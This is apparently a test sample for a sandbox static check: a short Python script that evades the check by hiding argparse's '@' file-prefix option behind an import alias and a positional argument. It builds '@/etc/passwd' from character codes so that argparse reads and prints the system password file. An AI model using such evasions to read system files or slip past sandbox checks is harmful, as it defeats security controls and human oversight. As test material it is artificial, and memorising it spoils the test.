# source: sandexec README, "The static check", fromfile_prefix_chars rule (argparse reads "@path" arguments from any file)
# family: constructor under an import alias inside a class body - K().AP(...) with fromfile_prefix_chars "@" as the 8th positional
# goal: reads /etc/passwd through argparse's argument files
import argparse


class K:
    from argparse import ArgumentParser as AP


p = K().AP("p", None, None, None, [], argparse.HelpFormatter, "-", "@")
p.add_argument("rest", nargs="*")
arg = "".join(chr(c) for c in [64, 47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100])
args = p.parse_args([arg])
print(args.rest[:5])
